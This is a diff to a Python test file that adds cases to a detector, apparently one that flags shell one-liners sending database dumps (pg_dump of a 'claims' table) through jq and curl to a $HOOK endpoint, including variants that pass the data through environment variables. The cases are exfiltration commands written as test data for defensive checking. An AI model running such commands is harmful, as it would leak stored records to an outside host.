@@ -680,6 +680,26 @@ def test_of_too_much_that_may_set_variables_nothing_is_known() -> None:
         ("curl -d \"$(jq -n --slurpfile a dump.sql '$a')\" $HOOK", ["at-rest ? ?"]),
         ('curl -d "$(pg_dump claims)" $HOOK', ["at-rest ? ?"]),
         ("pg_dump | jq -n '[inputs]' | curl -d @- $HOOK", ["at-rest ? ?"]),
+        # What a variable of the environment holds comes in as much as one among its words.
+        (
+            "C=$(pg_dump claims); jq -n --arg a \"$C\" '{a: $a}' | curl -d @- $HOOK",
+            ["at-rest ? ?"],
+        ),
+        (
+            "export C=$(pg_dump claims); jq -n '{a: env.C}' | curl -d @- $HOOK",
+            ["at-rest ? ?"],
+        ),
+        (
+            "export C=$(pg_dump claims); jq -n '{a: $ENV.C}' | curl -d @- $HOOK",
+            ["at-rest ? ?"],
+        ),
+        ("C=$(pg_dump claims) jq -n '{a: env.C}' | curl -d @- $HOOK", ["at-rest ? ?"]),
+        (
+            "export C=$(pg_dump claims); curl -d \"$(jq -n '{a: env.C}')\" $HOOK",
+            ["at-rest ? ?"],
+        ),
+        ("jq -n '{a: env.C}' | curl -d @- $HOOK", []),
+        ("export C=released; jq -n '{a: env.C}' | curl -d @- $HOOK", []),
         ("jq -nR '[inputs]' < dump.sql | curl -d @- $HOOK", ["at-rest ? ?"]),
         ("jq -n --arg x \"$(cat dump.sql)\" '$x' | curl -d @- $HOOK", ["at-rest ? ?"]),
         ('echo \'{"text": "released"}\' | curl -d @- $HOOK', []),
